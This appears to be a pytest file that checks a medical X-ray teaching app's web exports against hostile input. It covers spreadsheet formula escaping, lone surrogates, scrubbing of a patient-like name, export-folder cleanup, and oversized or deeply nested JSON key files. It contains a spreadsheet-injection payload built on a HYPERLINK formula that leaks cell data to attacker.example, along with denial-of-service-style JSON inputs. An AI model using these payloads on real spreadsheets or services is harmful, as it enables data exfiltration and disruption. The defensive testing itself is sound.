"""/teaching's exports and key files against hostile input, over the server's API (gradio_client, the real server
on the demo model): a formula typed into the notes is text in the session CSV, a lone surrogate neither breaks
Reveal nor an export, the report's Markdown and SR are scrubbed of the upload's name as the CSV is, export folders
are removed past the cache's age limit, and key files that are far too deep or far too large get short messages."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from pathlib import Path

import httpx
import pytest
from gradio_client import Client, handle_file

from medgemma_xray.assistant.spreadsheet import FORMULA_STARTS, text_cell
from medgemma_xray.phantoms.films import chest_phantom, png_bytes, quantize
from medgemma_xray.web.export_folders import ExportSpaceFull, new_export_folder
from medgemma_xray.web.teaching_context import FORM

pytestmark = pytest.mark.slow
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")'
NAME = "Doe_Jane_MRN-1234"


def call_escaped(client: Client, url: str, api_name: str, data: list) -> str:
    """Call an event in the client's session with the JSON written by hand: json.dumps escapes a lone surrogate
    (\\ud800) as a browser's JSON.stringify does, where httpx refuses to encode it. Returns the event stream."""
    body = json.dumps({"data": data, "session_hash": client.session_hash}).encode("ascii")
    started = httpx.post(
        f"{url}/gradio_api/call/{api_name}", content=body, headers={"content-type": "application/json"}, timeout=60
    )
    assert started.status_code == 200, started.text
    event = started.json()["event_id"]
    return httpx.get(f"{url}/gradio_api/call/{api_name}/{event}", timeout=600).text


def local(update) -> Path:
    return Path(update["value"] if isinstance(update, dict) else update)


@pytest.fixture(scope="module")
def revealed(demo_server, tmp_path_factory):
    """A client whose uploaded film (its file named like a patient) was revealed with a formula and a lone surrogate
    in the student's notes."""
    film = tmp_path_factory.mktemp("film") / f"{NAME}.png"
    film.write_bytes(png_bytes(quantize(chest_phantom(seed=8), 8)))
    client = Client(demo_server.url, verbose=False)
    client.predict(handle_file(str(film)), api_name="/teaching_upload_film")
    notes = FORMULA + " and \ud800 then " + NAME
    stream = call_escaped(
        client,
        demo_server.url,
        "teaching_reveal",
        [True, *([None] * FORM.index("read_notes")), notes, *([""] * (len(FORM) - FORM.index("read_notes") - 1)), ""],
    )
    assert "event: complete" in stream and "event: error" not in stream, stream[-2000:]
    return client


def test_a_formula_in_the_notes_is_text_in_the_session_csv(revealed):
    csv_file, _ = revealed.predict("", api_name="/teaching_export")  # no student name
    rows = list(csv.DictReader(io.StringIO(local(csv_file).read_text(encoding="utf-8"))))
    notes = rows[0]["student_notes"]
    assert notes.startswith("'=HYPERLINK("), notes
    assert "\ufffd" in notes and "[removed]" in notes and "Doe" not in notes
    for row in rows:
        for value in row.values():
            assert value[:1] not in FORMULA_STARTS, value


def test_the_report_markdown_and_sr_are_scrubbed_like_the_csv(revealed, demo_server):
    typed = f"Cough; {NAME.replace('_', ' ')} \ud800 asked for a review."
    stream = call_escaped(revealed, demo_server.url, "teaching_report", [typed, "=1+1", "", False, ""])
    assert "event: complete" in stream and "event: error" not in stream, stream[-2000:]
    markdown, sr = revealed.predict(
        f"Cough; {NAME.replace('_', ' ')} again.", "", "", False, "", api_name="/teaching_report"
    )
    text = local(markdown).read_text(encoding="utf-8")
    assert "Cough; [removed] again." in text and "Doe" not in text and "MRN-1234" not in text
    written = "".join(line for line in stream.splitlines() if line.startswith("data:"))
    first = Path(json.loads(written.removeprefix("data:"))[0]["value"]["path"])
    assert "[removed]" in first.read_text(encoding="utf-8") and "\ufffd" in first.read_text(encoding="utf-8")
    assert b"Doe" not in local(sr).read_bytes() and b"MRN-1234" not in local(sr).read_bytes()


def test_export_folders_past_the_age_limit_are_removed(revealed, demo_server):
    cache = demo_server.log_dir / "upload-cache"
    before = {path for path in cache.iterdir() if path.name.startswith("teaching-")}
    assert before, "no export folder in the server's cache"
    long_ago = time.time() - 7 * 24 * 3600
    for folder in before:
        os.utime(folder, (long_ago, long_ago))
    revealed.predict("", api_name="/teaching_export")  # no student name
    after = {path for path in cache.iterdir() if path.name.startswith("teaching-session-")}
    assert not (before & after), "an export folder older than CACHE_MAX_AGE_S outlived the next export"
    assert len(after) == 1


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "an answer key is a short JSON object"),
        (b'{"heart": {"cardiothoracic_ratio": "' + b"x" * (47 << 20) + b'"}}', "an answer key is a short JSON object"),
        (b"[" * 20_000 + b"]" * 20_000, "nests its JSON far deeper than a key"),
        (b'{"heart": {"cardiothoracic_ratio": "' + b"x" * 30_000 + b'"}, "technique": null}', "expected a number"),
    ],
    ids=["100k-deep", "47MiB", "20k-deep-small", "long-value"],
)
def test_hostile_key_files_get_short_clear_messages(revealed, tmp_path, content, expected):
    key = tmp_path / "key.json"
    key.write_bytes(content)
    with pytest.raises(Exception) as refused:
        revealed.predict(handle_file(str(key)), api_name="/teaching_upload_key")
    message = str(refused.value)
    assert expected in message and len(message) < 600, message[:600]


def test_export_folders_stay_under_the_quota_oldest_first(tmp_path):
    folders = [new_export_folder(tmp_path, "teaching-session-", max_age_s=600, quota_bytes=3 << 20,
                                 incoming_bytes=1 << 20) for _ in range(3)]  # fmt: skip
    for age, folder in enumerate(folders):
        (folder / "export.pdf").write_bytes(b"p" * (1 << 20))
        stamp = time.time() - 100 + age
        os.utime(folder, (stamp, stamp))
    newest = new_export_folder(tmp_path, "teaching-report-", max_age_s=600, quota_bytes=3 << 20,
                               incoming_bytes=1 << 20)  # fmt: skip
    assert not folders[0].exists() and folders[1].exists() and folders[2].exists() and newest.exists()
    with pytest.raises(ExportSpaceFull, match="export space is full"):
        new_export_folder(tmp_path, "teaching-report-", max_age_s=600, quota_bytes=1 << 20, incoming_bytes=2 << 20)


def test_text_cells_follow_owasp():
    for trigger in "=+-@\t\r":
        assert text_cell(trigger + "1") == "'" + trigger + "1"
    assert text_cell("plain text, = inside") == "plain text, = inside"
    assert text_cell("lone \ud800").encode("utf-8") == "lone \ufffd".encode()


@pytest.mark.parametrize("sent", [["wide", "narrow"], ["NaN", "inf"], [40, None]])
def test_a_window_that_is_not_two_numbers_gets_the_typed_window_notice(revealed, demo_server, sent):
    """An API client may send anything in the level and width boxes' place: the page's notice and the window as it
    was, never an internal error."""
    stream = call_escaped(revealed, demo_server.url, "teaching_window", sent)
    assert "event: complete" in stream and "event: error" not in stream, stream[-2000:]
